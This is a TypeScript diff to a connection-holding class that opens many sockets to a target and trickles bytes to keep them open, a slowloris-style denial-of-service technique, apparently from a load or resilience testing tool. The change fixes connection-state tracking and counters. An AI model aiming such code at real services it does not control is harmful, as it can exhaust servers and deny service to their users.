@@ -47,6 +47,7 @@ function scriptOf(attack: Attack): Script {
 
 interface Held {
   socket: Socket
+  connected: boolean
   index: number
   nextAt: number
 }
@@ -59,6 +60,7 @@ export class Holder {
   readonly #held = new Set<Held>()
   #level = 0
   #ceased = false
+  #dropped = false
   #started = 0
   readonly #openings: Allowance
 
@@ -78,7 +80,7 @@ export class Holder {
   }
 
   drop(): void {
-    this.#ceased = true
+    this.#ceased = this.#dropped = true
     for (const { socket } of this.#held) socket.destroy()
   }
 
@@ -93,7 +95,7 @@ export class Holder {
     }
     if (this.#script.dribble === undefined) return
     for (const held of this.#held) {
-      if (held.nextAt > now) continue
+      if (!held.connected || held.nextAt > now) continue
       held.nextAt = now + (this.#script.everySeconds ?? this.#attack.dribbleSeconds) * 1000
       if (this.#script.readBytes !== undefined) held.socket.resume()
       held.socket.write(this.#script.dribble)
@@ -105,7 +107,7 @@ export class Holder {
     const counters = this.#counters
     const { readBytes, wants } = this.#script
     const index = this.#started++
-    let connected = false
+    counters.tried++
     let first = true
     const socket: Socket = connectTo(this.#attack.target, {
       onread: {
@@ -123,10 +125,15 @@ export class Holder {
         },
       },
     })
-    const held: Held = { socket, index, nextAt: now + this.#attack.dribbleSeconds * 1000 * (0.5 + (index % 16) / 16) }
+    const held: Held = {
+      socket,
+      connected: false,
+      index,
+      nextAt: now + this.#attack.dribbleSeconds * 1000 * (0.5 + (index % 16) / 16),
+    }
     this.#held.add(held)
     socket.once(connectedEvent(this.#attack.target), () => {
-      connected = true
+      held.connected = true
       counters.opened++
       counters.open++
       const opening = this.#script.opening(index)
@@ -140,10 +147,10 @@ export class Holder {
     socket.once('end', () => socket.destroy())
     socket.once('close', () => {
       this.#held.delete(held)
-      if (connected) {
+      if (held.connected) {
         counters.open--
-        counters.shed++
-      } else counters.refused++
+        if (!this.#dropped) counters.shed++
+      } else if (!this.#dropped) counters.refused++
     })
   }
 
